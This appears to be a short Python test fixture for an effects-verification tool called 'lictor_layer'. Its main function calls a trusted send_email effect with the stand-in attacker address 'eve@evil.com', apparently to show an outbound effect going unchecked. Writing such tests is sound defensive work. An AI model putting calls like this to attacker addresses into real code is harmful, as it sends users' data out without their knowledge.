# proved: nothing is promised, so nothing can be broken; coverage tells the gap
import lictor_layer
from tools.desk.trusted.effects import send_email


def main() -> None:
    send_email("eve@evil.com", "x")
